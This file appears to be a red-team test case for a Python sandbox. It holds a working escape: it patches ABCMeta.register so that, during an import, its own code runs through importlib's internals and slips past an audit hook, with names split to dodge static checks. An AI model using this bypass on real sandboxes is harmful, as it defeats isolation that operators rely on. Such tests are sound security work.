# adversary round 8: 020: code-execution primitive: while any import is in progress the audit hook lets exec/compile through when the calling frame is importlib's; patch ABCMeta.register (public, non-dunder class attr) to run during `import numbers`, and exec our own text through _frozen_importlib._call_with_frames_removed (sys from object.__getstate__(typing))
import abc
import typing

s = object.__getstate__(typing)['sys']
bootstrap = s.modules['_frozen_importlib']
cwfr = object.__getstate__(bootstrap)['_call_with' + '_frames_removed']
bexec = s.modules['builtins'].exec
orig = abc.ABCMeta.register
result = {}
SRC = """
pid = s.modules['posix'].getpid()
leak = (lambda: 0).__globals__          # a static-check-free zone: dunders are fine here
marker = 'PWN' + 'ED'
"""


def hook(cls, subclass):
    if not result:
        g = {'s': s}
        cwfr(bexec, SRC, g)
        result.update(g)
    return orig(cls, subclass)


M = abc.ABCMeta
M.register = hook
import numbers
M.register = orig
print(numbers, result['pid'], type(result['leak']))
print(result['marker'])
